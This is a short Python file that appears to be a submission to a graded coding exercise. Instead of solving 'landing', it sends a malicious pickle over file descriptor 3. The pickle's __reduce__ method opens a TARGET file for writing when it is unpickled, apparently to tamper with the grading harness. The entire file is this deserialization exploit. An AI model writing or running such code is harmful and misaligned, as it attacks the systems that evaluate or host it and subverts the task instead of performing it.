"""Send a pickle that would write a file when it is loaded."""

# points: landing 0

import os
import pickle

class Bomb:
    def __reduce__(self):
        return open, (TARGET, "w")


def landing(heights):
    body = pickle.dumps(Bomb())
    os.write(3, len(body).to_bytes(4, "big") + body)
    return Bomb()
